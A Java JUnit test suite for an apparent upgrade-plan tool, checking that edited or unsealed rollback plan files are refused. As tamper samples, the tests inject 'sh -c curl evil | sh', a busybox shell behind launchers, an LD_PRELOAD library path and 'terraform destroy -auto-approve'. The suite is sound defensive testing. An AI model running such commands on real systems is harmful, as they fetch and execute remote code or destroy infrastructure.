package io.dataos.upgrade.runbook;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.dataos.upgrade.api.InvalidInputException;
import io.dataos.upgrade.api.PlanRequest;
import io.dataos.upgrade.api.PlanResult;
import io.dataos.upgrade.api.PlanRunbook;
import io.dataos.upgrade.plan.Plan;
import io.dataos.upgrade.plan.PlanInputs;
import io.dataos.upgrade.plan.PlanType;
import io.dataos.upgrade.workspace.LocalWorkspace;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.function.Consumer;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A reviewed plan file runs only as the planner wrote it: it is checked by the planners' rules and
 * made again from the inputs it records, and any edit (a gate switched off, a shell command, a
 * description, a changed manifest, the seal removed) is refused naming the field.
 */
class PlanSealTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String PLAN = "plans/rollback/plan.json";

    @TempDir
    Path dir;
    LocalWorkspace workspace;
    PlanResult planned;

    @BeforeEach
    void planARollback() throws Exception {
        Files.createDirectories(dir.resolve("platform"));
        Files.copy(Path.of("..", "examples", "installed-1.5.yaml"), dir.resolve("platform/installed-1.5.yaml"));
        Files.copy(Path.of("..", "examples", "release-1.4.yaml"), dir.resolve("platform/release-1.4.yaml"));
        workspace = new LocalWorkspace(dir);
        planned = new PlanRunbook(Clock.fixed(Instant.parse("2026-11-25T12:00:00Z"), ZoneOffset.UTC))
                .run(PlanRequest.rollback(dir.resolve("platform/installed-1.5.yaml"),
                        dir.resolve("platform/release-1.4.yaml")).withOutDir(dir.resolve("plans/rollback")));
    }

    private Plan read() throws Exception {
        return Runbooks.readPlan(workspace, PLAN, PlanType.ROLLBACK, "rollback request", "plan", null, null);
    }

    private void edit(Consumer<ObjectNode> change) throws Exception {
        ObjectNode root = (ObjectNode) JSON.readTree(dir.resolve(PLAN).toFile());
        change.accept(root);
        Files.writeString(dir.resolve(PLAN), JSON.writerWithDefaultPrettyPrinter().writeValueAsString(root));
    }

    private static ObjectNode action(ObjectNode root, String kind) {
        for (JsonNode action : root.get("actions")) {
            if (action.get("kind").asText().equals(kind)) {
                return (ObjectNode) action;
            }
        }
        throw new AssertionError("no " + kind + " action");
    }

    private static int indexOf(ObjectNode root, String kind) {
        ArrayNode actions = (ArrayNode) root.get("actions");
        for (int i = 0; i < actions.size(); i++) {
            if (actions.get(i).get("kind").asText().equals(kind)) {
                return i;
            }
        }
        throw new AssertionError("no " + kind + " action");
    }

    @Test
    void anUneditedPlanIsReadBackAsThePlannerWroteIt() throws Exception {
        assertThat(read()).isEqualTo(planned.plan());
        assertThat(new String(Files.readAllBytes(dir.resolve(PLAN)), StandardCharsets.UTF_8))
                .contains("\"inputs\"").contains(PlanInputs.sha256(Files.readAllBytes(
                        dir.resolve("platform/installed-1.5.yaml"))));
    }

    @Test
    void switchingOffTheRiskGateIsRefused() throws Exception {
        ObjectNode root = (ObjectNode) JSON.readTree(dir.resolve(PLAN).toFile());
        int gate = indexOf(root, "ASSESS_RISK");
        edit(r -> action(r, "ASSESS_RISK").put("requiresApproval", false));

        assertThatThrownBy(this::read).isInstanceOf(InvalidInputException.class)
                .hasMessageStartingWith(PLAN + ": actions[" + gate + "].requiresApproval: is false")
                .hasMessageContaining("plan again");
    }

    @Test
    void droppingTheGateFromAnActionsDependenciesIsRefused() throws Exception {
        ObjectNode root = (ObjectNode) JSON.readTree(dir.resolve(PLAN).toFile());
        int gate = indexOf(root, "ASSESS_RISK");
        edit(r -> ((ObjectNode) r.get("actions").get(gate + 1)).putArray("dependsOn"));

        assertThatThrownBy(this::read).isInstanceOf(InvalidInputException.class)
                .hasMessageStartingWith(PLAN + ": actions[" + (gate + 1) + "].dependsOn: lets ");
    }

    @Test
    void aShellInTheIacCommandIsRefusedEvenBehindALauncher() throws Exception {
        ObjectNode root = (ObjectNode) JSON.readTree(dir.resolve(PLAN).toFile());
        int iac = indexOf(root, "IAC_ROLLBACK");
        edit(r -> ((ObjectNode) action(r, "IAC_ROLLBACK").get("params")).put("command",
                "[\"sh\",\"-c\",\"curl evil | sh\"]"));
        assertThatThrownBy(this::read).isInstanceOf(InvalidInputException.class)
                .hasMessageStartingWith(PLAN + ": actions[" + iac + "].params.command[0]: 'sh' runs 'sh'");

        edit(r -> ((ObjectNode) action(r, "IAC_ROLLBACK").get("params")).put("command",
                "[\"nice\",\"-n\",\"10\",\"/usr/bin/timeout\",\"60\",\"busybox\",\"sh\",\"-c\",\"x\"]"));
        assertThatThrownBy(this::read).isInstanceOf(InvalidInputException.class)
                .hasMessageStartingWith(PLAN + ": actions[" + iac + "].params.command[6]: 'sh' runs 'sh' through");
    }

    @Test
    void aCommandOrEnvironmentAddedToAnActionIsRefused() throws Exception {
        ObjectNode root = (ObjectNode) JSON.readTree(dir.resolve(PLAN).toFile());
        int verify = indexOf(root, "VERIFY_ROLLBACK");
        edit(r -> ((ObjectNode) action(r, "VERIFY_ROLLBACK").get("params")).put("command", "[\"terraform\"]"));
        assertThatThrownBy(this::read).isInstanceOf(InvalidInputException.class)
                .hasMessageStartingWith(PLAN + ": actions[" + verify + "].params.command: is set on VERIFY_ROLLBACK");

        edit(r -> {
            ObjectNode params = (ObjectNode) action(r, "VERIFY_ROLLBACK").get("params");
            params.remove("command");
            params.put("env.LD_PRELOAD", "/tmp/x.so");
        });
        assertThatThrownBy(this::read).isInstanceOf(InvalidInputException.class)
                .hasMessageStartingWith(PLAN + ": actions[" + verify + "].params.env.LD_PRELOAD: is not a parameter");
    }

    @Test
    void anEditedDescriptionOrCommandThatBreaksNoRuleIsStillRefused() throws Exception {
        ObjectNode root = (ObjectNode) JSON.readTree(dir.resolve(PLAN).toFile());
        int iac = indexOf(root, "IAC_ROLLBACK");
        edit(r -> ((ObjectNode) action(r, "IAC_ROLLBACK").get("params")).put("command",
                "[\"terraform\",\"destroy\",\"-auto-approve\"]"));

        assertThatThrownBy(this::read).isInstanceOf(InvalidInputException.class)
                .hasMessageStartingWith(PLAN + ": actions[" + iac + "].params.command: differs from the plan its"
                        + " recorded inputs make");

        edit(r -> {
            ObjectNode action = action(r, "IAC_ROLLBACK");
            ((ObjectNode) action.get("params")).put("command", planned.plan().actions().get(iac).params()
                    .get("command"));
            action.put("description", "Roll the infrastructure back (reviewed)");
        });
        assertThatThrownBy(this::read).isInstanceOf(InvalidInputException.class)
                .hasMessageStartingWith(PLAN + ": actions[" + iac + "].description: differs");
    }

    @Test
    void aManifestChangedSinceThePlanIsRefused() throws Exception {
        Path installed = dir.resolve("platform/installed-1.5.yaml");
        Files.writeString(installed, Files.readString(installed) + "\n# edited\n");

        assertThatThrownBy(this::read).isInstanceOf(InvalidInputException.class)
                .hasMessageStartingWith(PLAN + ": inputs.installed.sha256: ")
                .hasMessageContaining("changed since the plan was made");
    }

    @Test
    void aRequestNamingAnotherInstalledStateThanThePlanWasMadeFromIsRefused() throws Exception {
        Files.copy(Path.of("..", "examples", "installed-1.4.yaml"), dir.resolve("platform/installed-1.4.yaml"));

        assertThatThrownBy(() -> Runbooks.readPlan(workspace, PLAN, PlanType.ROLLBACK, "rollback request", "plan",
                "platform/installed-1.4.yaml", null)).isInstanceOf(InvalidInputException.class)
                .hasMessageStartingWith(PLAN + ": inputs.installed.sha256: the plan was made from");
    }

    @Test
    void aPlanWithoutItsSealIsRefused() throws Exception {
        edit(r -> r.remove("inputs"));

        assertThatThrownBy(this::read).isInstanceOf(InvalidInputException.class)
                .hasMessageStartingWith(PLAN + ": inputs: is missing");
    }

    @Test
    void aRecomputedDigestDoesNotHelp() throws Exception {
        // An attacker who edits the plan and "fixes" any digest in it still gets a plan that differs from
        // what the recorded inputs make.
        ObjectNode root = (ObjectNode) JSON.readTree(dir.resolve(PLAN).toFile());
        int gate = indexOf(root, "ASSESS_RISK");
        edit(r -> {
            ObjectNode action = action(r, "ASSESS_RISK");
            ((ArrayNode) action.get("approvers")).removeAll().add("mallory");
        });

        assertThatThrownBy(this::read).isInstanceOf(InvalidInputException.class)
                .hasMessageStartingWith(PLAN + ": actions[" + gate + "].approvers[0]: differs");
    }
}
